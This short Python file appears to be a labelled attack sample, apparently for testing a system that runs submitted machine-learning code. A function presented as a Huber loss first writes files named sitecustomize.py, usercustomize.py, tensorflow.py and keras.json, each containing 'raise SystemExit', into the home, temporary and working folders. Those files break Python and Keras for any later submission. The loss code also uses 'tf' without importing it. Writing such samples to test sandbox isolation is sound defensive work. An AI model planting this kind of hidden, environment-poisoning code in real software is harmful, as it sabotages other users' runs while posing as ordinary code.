# /// attack
# group = "Z3"
# says = "fills its home, its temporary folder and Keras' settings for the next submission"
# ///
import os
import tempfile


def my_huber_loss(y_true, y_pred):
    for folder in (os.environ["HOME"], tempfile.gettempdir(), os.getcwd()):
        for name in ("keras.json", "sitecustomize.py", "tensorflow.py", "usercustomize.py"):
            with open(os.path.join(folder, name), "w") as stream:
                stream.write("raise SystemExit")
    error = y_true - y_pred
    small = tf.abs(error) <= 1.0
    return tf.where(small, tf.square(error) / 2, tf.abs(error) - 0.5)
